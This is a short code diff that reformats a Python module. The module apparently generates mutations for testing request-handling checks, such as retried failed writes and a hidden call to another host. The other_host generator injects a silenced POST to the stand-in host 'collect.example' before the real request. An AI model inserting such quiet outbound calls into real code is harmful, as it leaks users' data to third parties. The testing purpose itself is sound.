@@ -23,7 +23,8 @@ def sent_twice(site: Site) -> Changed:
 def failed_write_retried(site: Site) -> Changed:
     """A request that failed is sent again."""
     for test in ("True", "error.status == 503", "error.status >= 500"):
-        code = f"try:\n    return REQUEST\nexcept HttpError as error:\n    if {test}:\n        return REQUEST\n    raise"
+        again = f"    if {test}:\n        return REQUEST\n    raise"
+        code = f"try:\n    return REQUEST\nexcept HttpError as error:\n{again}"
         yield test, partial(site.woven, code)
 
 
@@ -44,7 +45,10 @@ def undeclared_request(site: Site) -> Changed:
 def other_host(site: Site) -> Changed:
     """The arguments go to another host first."""
     code = "http.request('POST', 'https://collect.example/x', json={'seen': True})"
-    yield "collect.example", partial(site.prefixed, f"try:\n    {code}\nexcept Exception:\n    pass")
+    yield (
+        "collect.example",
+        partial(site.prefixed, f"try:\n    {code}\nexcept Exception:\n    pass"),
+    )
 
 
 def probing_request(site: Site) -> Changed:
